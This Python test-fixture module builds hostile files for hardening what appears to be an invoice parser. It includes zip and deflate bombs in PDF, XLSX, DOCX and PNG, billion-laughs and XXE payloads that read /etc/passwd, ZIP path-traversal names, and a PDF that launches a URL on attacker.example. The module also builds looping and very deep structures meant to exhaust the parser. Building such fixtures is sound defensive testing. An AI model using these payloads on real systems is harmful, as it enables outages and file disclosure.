"""Builders of files that mean harm, each as a function of no arguments. The smallest that shows the attack."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import pillow_heif
import xlsxwriter
from PIL import Image
from reportlab.lib.pdfencrypt import StandardEncryption
from reportlab.pdfgen import canvas

Build = Callable[[], bytes]
pillow_heif.register_heif_opener()
BOMB_BYTES = 450_000_000  # past the limit of what a file may unpack to
MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def pdf(*objects: str | bytes, root: int = 1, trailer: str = "") -> bytes:
    """A PDF of numbered objects, with a right cross-reference table."""
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        content = body.encode("latin-1") if isinstance(body, str) else body
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += f"trailer\n<</Size {len(objects) + 1}/Root {root} 0 R{trailer}>>\nstartxref\n{start}\n%%EOF\n".encode()
    return bytes(out)


def stream(content: bytes, extra: str = "") -> bytes:
    return f"<<{extra}/Length {len(content)}>>stream\n".encode() + content + b"\nendstream"


def drawn_pdf(encryption: StandardEncryption | None = None) -> bytes:
    """An honest invoice of one page."""
    buffer = io.BytesIO()
    page = canvas.Canvas(buffer, encrypt=encryption, invariant=1)
    for y, text in ((800, "INVOICE 4711"), (780, "Date 2026-03-01"), (760, "Total due 119.00 EUR")):
        page.drawString(72, y, text)
    page.showPage()
    page.save()
    return buffer.getvalue()


def encrypted_pdf() -> bytes:
    return drawn_pdf(StandardEncryption("secret", ownerPassword="owner"))


def owner_locked_pdf() -> bytes:
    return drawn_pdf(StandardEncryption("", ownerPassword="owner", canModify=0))


def many_pages_pdf() -> bytes:
    kids = " ".join(["3 0 R"] * 100_000)
    page = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 100 100]>>"
    return pdf("<</Type/Catalog/Pages 2 0 R>>", f"<</Type/Pages/Count 100000/Kids[{kids}]>>", page)


def looping_page_tree_pdf() -> bytes:
    return pdf(
        "<</Type/Catalog/Pages 2 0 R>>",
        "<</Type/Pages/Count 1/Kids[3 0 R]/Parent 3 0 R>>",
        "<</Type/Pages/Count 1/Kids[2 0 R]/Parent 2 0 R>>",
    )


def page_with(content: bytes, extra: str = "", resources: str = "", media_box: str = "0 0 595 842") -> bytes:
    return pdf(
        "<</Type/Catalog/Pages 2 0 R>>",
        "<</Type/Pages/Count 1/Kids[3 0 R]>>",
        f"<</Type/Page/Parent 2 0 R/MediaBox[{media_box}]/Contents 4 0 R"
        f"/Resources<</Font<</F1 5 0 R>>{resources}>>{extra}>>",
        content,
        "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        stream(b"/Fm0 Do", "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</Fm0 6 0 R>>>>"),
    )


def self_calling_form_pdf() -> bytes:
    return page_with(
        stream(b"BT /F1 12 Tf 72 700 Td (INVOICE 4711 total 10.00) Tj ET /Fm0 Do"), "", "/XObject<</Fm0 6 0 R>>"
    )


def content_bomb_pdf() -> bytes:
    """9 kB that unpack to several hundred MB of drawing."""
    return page_with(stream(_deflated_zeros(b"0 0 m 1 1 l S ", 300_000_000), "/Filter/FlateDecode"))


def text_bomb_pdf() -> bytes:
    return page_with(
        stream(
            _deflated_zeros(b"BT /F1 1 Tf (AAAAAAAAAAAAAAAAAAAAAAAAAAAA) Tj ET ", 200_000_000), "/Filter/FlateDecode"
        )
    )


def double_bomb_pdf() -> bytes:
    inner = zlib.compress(_deflated_zeros(b"0 0 m ", 400_000_000), 9)
    return page_with(stream(inner, "/Filter[/FlateDecode/FlateDecode]"))


def deep_arrays_pdf() -> bytes:
    return pdf(
        "<</Type/Catalog/Pages 2 0 R/X " + "[" * 200_000 + "]" * 200_000 + ">>", "<</Type/Pages/Count 0/Kids[]>>"
    )


def looping_xref_pdf() -> bytes:
    data = pdf("<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Count 0/Kids[]>>")
    start = data.rindex(b"xref\n0")
    return data.replace(b"trailer\n<<", b"trailer\n<</Prev %d" % start)


def huge_paper_pdf() -> bytes:
    return page_with(stream(b"0 0 m"), media_box="0 0 14400000 14400000")


def no_pages_pdf() -> bytes:
    return pdf("<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Count 0/Kids[]>>")


def script_pdf() -> bytes:
    action = "/OpenAction<</S/JavaScript/JS(app.launchURL\\('https://attacker.example'\\))>>"
    data = page_with(stream(b"BT /F1 12 Tf 72 700 Td (INVOICE 4711 total 10.00 EUR) Tj ET"))
    return data.replace(b"/Type/Catalog", b"/Type/Catalog" + action.encode(), 1)


def _deflated_zeros(piece: bytes, size: int) -> bytes:
    packer = zlib.compressobj(9)
    block = piece * (1_000_000 // len(piece))
    return b"".join(packer.compress(block) for _ in range(size // len(block))) + packer.flush()


def billion_laughs() -> bytes:
    lines = ['<!ENTITY a0 "lol">'] + [f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)]
    return f'<?xml version="1.0"?><!DOCTYPE Invoice [{"".join(lines)}]><Invoice>&a9;</Invoice>'.encode()


def external_entity() -> bytes:
    return b'<?xml version="1.0"?><!DOCTYPE Invoice [<!ENTITY x SYSTEM "file:///etc/passwd">]><Invoice>&x;</Invoice>'


def remote_dtd() -> bytes:
    return b'<?xml version="1.0"?><!DOCTYPE Invoice SYSTEM "http://127.0.0.1:9/e.dtd"><Invoice>1</Invoice>'


def quadratic_entity() -> bytes:
    return b'<!DOCTYPE I [<!ENTITY a "' + b"a" * 100_000 + b'">]><I>' + b"&a;" * 50_000 + b"</I>"


def deep_xml() -> bytes:
    return b"<a>" * 200_000 + b"</a>" * 200_000


def wide_attribute_xml() -> bytes:
    return b'<Invoice a="' + b"x" * 9_500_000 + b'"/>'


def many_elements_xml() -> bytes:
    return b"<Invoice>" + b"<a/>" * 1_500_000 + b"</Invoice>"


def zip_of(members: dict[str, bytes | int]) -> bytes:
    """A zip; a number stands for a member of so many blanks."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, content in members.items():
            if isinstance(content, bytes):
                archive.writestr(name, content)
                continue
            with archive.open(name, "w", force_zip64=False) as member:
                for _ in range(content // 1_000_000):
                    member.write(b" " * 1_000_000)
    return buffer.getvalue()


def workbook(rows: list[list[object]] | None = None, sheets: int = 1) -> bytes:
    """An honest workbook."""
    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"in_memory": True})
    for number in range(sheets):
        sheet = book.add_worksheet(f"Sheet{number + 1}")
        for index, row in enumerate(rows or [["Zone", "Rate"], ["1", 12.5], ["2", 13.5]]):
            sheet.write_row(index, 0, row)
    book.close()
    return buffer.getvalue()


def workbook_with_sheet(xml: bytes | int) -> bytes:
    """The honest workbook with another XML as its only sheet."""
    with zipfile.ZipFile(io.BytesIO(workbook())) as archive:
        members: dict[str, bytes | int] = {info.filename: archive.read(info) for info in archive.infolist()}
    members["xl/worksheets/sheet1.xml"] = xml
    return zip_of(members)


def sheet_bomb() -> bytes:
    return workbook_with_sheet(BOMB_BYTES)


def lying_sheet_bomb() -> bytes:
    """Its directory says 1,000 bytes; it unpacks to 450 MB."""
    data = bytearray(workbook_with_sheet(BOMB_BYTES))
    for signature, size_at, name_at in ((b"PK\x03\x04", 22, 30), (b"PK\x01\x02", 24, 46)):
        at = -1
        while (at := data.find(signature, at + 1)) >= 0:
            if data[at + name_at : at + name_at + 24] == b"xl/worksheets/sheet1.xml":
                struct.pack_into("<I", data, at + size_at, 1000)
    return bytes(data)


def overlapping_zip_bomb() -> bytes:
    """Thousands of directory entries that share one packed member."""
    base = bytearray(workbook_with_sheet(20_000_000))
    end = base.rindex(b"PK\x05\x06")
    start = struct.unpack_from("<I", base, end + 16)[0]
    at = base.index(b"xl/worksheets/sheet1.xml", start) - 46
    name_bytes, extra_bytes, comment_bytes = struct.unpack_from("<HHH", base, at + 28)
    entry = bytes(base[at : at + 46 + name_bytes + extra_bytes + comment_bytes])
    entries = b"".join(entry.replace(b"sheet1.xml", b"%06d.xml" % n) for n in range(600))
    directory = bytes(base[start:end]) + entries
    count = directory.count(b"PK\x01\x02")
    tail = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(directory), start, 0)
    return bytes(base[:start]) + directory + tail


def million_empty_rows() -> bytes:
    rows = b"".join(b'<row r="%d"><c r="A%d" s="1"/></row>' % (n, n) for n in range(3, 1_000_003))
    first = b'<row r="1"><c r="A1" t="inlineStr"><is><t>Zone</t></is></c><c r="B1"><v>2.5</v></c></row>'
    return workbook_with_sheet(f"<worksheet {MAIN}><sheetData>".encode() + first + rows + b"</sheetData></worksheet>")


def stray_last_cell() -> bytes:
    """A used range of 17 thousand million cells, two of them filled."""
    cells = b'<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>2</v></c></row>'
    return workbook_with_sheet(f"<worksheet {MAIN}><sheetData>".encode() + cells + b"</sheetData></worksheet>")


def sheet_with_entities() -> bytes:
    lines = '<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    cell = '<row r="1"><c r="A1" t="inlineStr"><is><t>&b;</t></is></c></row>'
    return workbook_with_sheet(f"{lines}<worksheet {MAIN}><sheetData>{cell}</sheetData></worksheet>".encode())


def many_sheets() -> bytes:
    return workbook(sheets=600)


def sheet_missing() -> bytes:
    with zipfile.ZipFile(io.BytesIO(workbook())) as archive:
        members: dict[str, bytes | int] = {
            i.filename: archive.read(i) for i in archive.infolist() if "sheet1" not in i.filename
        }
    return zip_of(members)


def climbing_names_workbook() -> bytes:
    with zipfile.ZipFile(io.BytesIO(workbook())) as archive:
        members: dict[str, bytes | int] = {info.filename: archive.read(info) for info in archive.infolist()}
    return zip_of({**members, "../../../../tmp/owned": b"x", "/etc/owned": b"x", "C:\\owned": b"x"})


def merged_million() -> bytes:
    merge = b'<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    cells = b'<row r="1"><c r="A1"><v>1</v></c><c r="B1"><v>2</v></c></row>'
    return workbook_with_sheet(
        f"<worksheet {MAIN}><sheetData>".encode() + cells + b"</sheetData>" + merge + b"</worksheet>"
    )


def locked_zip() -> bytes:
    """The flag of encryption on every member."""
    data = bytearray(workbook())
    for signature, flags_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = -1
        while (at := data.find(signature, at + 1)) >= 0:
            data[at + flags_at] |= 1
    return bytes(data)


def ole(*names: str, sectors: int = 4, loop: bool = False) -> bytes:
    """A compound file with streams of these names and little else ([MS-CFB])."""
    header = bytearray(512)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIIII", header, 44, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0, 0)
    for at in range(76, 512, 4):
        struct.pack_into("<I", header, at, 0 if at == 76 else 0xFFFFFFFF)
    fat = [0xFFFFFFFD, 1 if loop else 0xFFFFFFFE, *([2 if loop else 0xFFFFFFFE] * (sectors - 2))]
    table = struct.pack(f"<{len(fat)}I", *fat).ljust(512, b"\xff")
    directory = b"".join(
        name.encode("utf-16-le").ljust(64, b"\0")
        + struct.pack(
            "<HBBIII",
            len(name) * 2 + 2,
            5 if index == 0 else 2,
            1,
            0xFFFFFFFF,
            0xFFFFFFFF,
            1 if index == 0 else 0xFFFFFFFF,
        )
        + bytes(36)
        + struct.pack("<IQ", 2, 4096)
        for index, name in enumerate(("Root Entry", *names))
    )
    return bytes(header) + table + directory.ljust(512, b"\0") + bytes(512 * (sectors - 2))


def ods(content: str, manifest: str = "") -> bytes:
    return zip_of(
        {
            "mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
            "content.xml": content.encode(),
            "META-INF/manifest.xml": manifest.encode(),
        }
    )


def repeating_ods() -> bytes:
    spaces = (
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
    )
    cell = '<table:table-cell table:number-columns-repeated="16384" office:value-type="string"><text:p>x</text:p>'
    cell += "</table:table-cell>"
    row = f'<table:table-row table:number-rows-repeated="1048576">{cell}</table:table-row>'
    return ods(
        f"<office:document-content {spaces}><office:body><office:spreadsheet>"
        f'<table:table table:name="S">{row}</table:table></office:spreadsheet></office:body></office:document-content>'
    )


def encrypted_ods() -> bytes:
    return ods("", '<manifest:file-entry><manifest:encryption-data manifest:checksum="x"/></manifest:file-entry>')


def docx(body: str, prolog: str = "") -> bytes:
    space = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    xml = f"{prolog}<w:document {space}><w:body>{body}</w:body></w:document>"
    return zip_of({"[Content_Types].xml": b"<Types/>", "word/document.xml": xml.encode()})


def docx_paragraph(text: str = "INVOICE 4711") -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def docx_bomb() -> bytes:
    return zip_of({"[Content_Types].xml": b"<Types/>", "word/document.xml": BOMB_BYTES})


def docx_nested_tables() -> bytes:
    inner = docx_paragraph()
    return docx("<w:tbl><w:tr><w:tc>" * 5000 + inner + "</w:tc></w:tr></w:tbl>" * 5000)


def docx_entity() -> bytes:
    return docx(docx_paragraph("&x;"), '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>')


def picture(size: tuple[int, int] = (60, 40), kind: str = "PNG") -> bytes:
    buffer = io.BytesIO()
    Image.effect_noise(size, 80).convert("RGB").save(buffer, format=kind)
    return buffer.getvalue()


def png_chunk(name: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))


def png_claiming(width: int, height: int) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", zlib.compress(b""))
        + png_chunk(b"IEND", b"")
    )


def png_text_bomb() -> bytes:
    body = picture()
    text = png_chunk(b"zTXt", b"k\0\0" + _deflated_zeros(b"a", 300_000_000))
    return body[:33] + text + body[33:]


def jpeg_claiming(width: int, height: int) -> bytes:
    data = bytearray(picture(kind="JPEG"))
    at = data.index(b"\xff\xc0")
    struct.pack_into(">HH", data, at + 5, height, width)
    return bytes(data)


def tiff(*, width: int = 8, height: int = 8, next_ifd: int = 0) -> bytes:
    entries = [(256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1)]
    entries += [(273, 4, 1, 200), (277, 3, 1, 1), (278, 4, 1, height), (279, 4, 1, 64)]
    ifd = struct.pack("<H", len(entries)) + b"".join(struct.pack("<HHII", *entry) for entry in entries)
    return (b"II*\0" + struct.pack("<I", 8) + ifd + struct.pack("<I", next_ifd)).ljust(200, b"\0") + b"\x80" * 64


def looping_tiff() -> bytes:
    return tiff(next_ifd=8)


def tiff_of_many_pages() -> bytes:
    pages = [Image.new("1", (16, 16), 1) for _ in range(600)]
    buffer = io.BytesIO()
    pages[0].save(buffer, format="TIFF", save_all=True, append_images=pages[1:])
    return buffer.getvalue()


def fake_heic() -> bytes:
    return struct.pack(">I", 24) + b"ftypheic\0\0\0\0mif1heic" + struct.pack(">I", 16) + b"meta" + b"\xff" * 8


def deep_html() -> bytes:
    return b"<html><body>" + b"<div>" * 300_000 + b"INVOICE 4711 total 10.00"


def many_attributes_html() -> bytes:
    return b"<html><body><p " + b"".join(b'a%d="x" ' % n for n in range(30_000)) + b">INVOICE 4711</p></body></html>"


def long_table_html() -> bytes:
    row = b"<tr><td>Freight</td><td>2</td><td>10.00</td></tr>"
    return b"<html><body><table>" + row * 100_000 + b"</table></body></html>"


def mail(body: bytes, headers: bytes = b"Content-Type: text/plain; charset=utf-8\r\n") -> bytes:
    start = b"From: a@vendor.example\r\nTo: b@buyer.example\r\nSubject: Invoice 4711\r\nMIME-Version: 1.0\r\n"
    return start + headers + b"\r\n" + body


def nested_mail() -> bytes:
    body = b"the end"
    for n in range(400):
        body = (
            b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (n, n) + body + b"\r\n--b%d--\r\n" % n
        )
    return mail(b"", b"").rstrip() + b"\r\n" + body


def mail_of_many_parts() -> bytes:
    part = b'--b\r\nContent-Type: text/csv\r\nContent-Disposition: attachment; filename="a.csv"\r\n\r\na,b\r\n'
    return mail(part * 50_000 + b"--b--", b'Content-Type: multipart/mixed; boundary="b"\r\n')
